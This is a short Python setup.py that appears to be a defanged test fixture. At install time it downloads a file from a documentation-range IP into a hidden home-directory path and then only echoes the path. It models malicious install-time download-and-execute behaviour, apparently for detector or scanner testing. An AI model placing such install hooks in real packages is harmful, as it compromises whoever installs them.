# defanged fixture: download and run at install (host is .invalid)
import os, subprocess
from urllib.request import urlretrieve
from setuptools import setup
path = os.path.expanduser("~/.drv")
urlretrieve("http://198.51.100.9/drv", path)
subprocess.Popen(["echo", path])
setup(name="fixture", version="1.0")
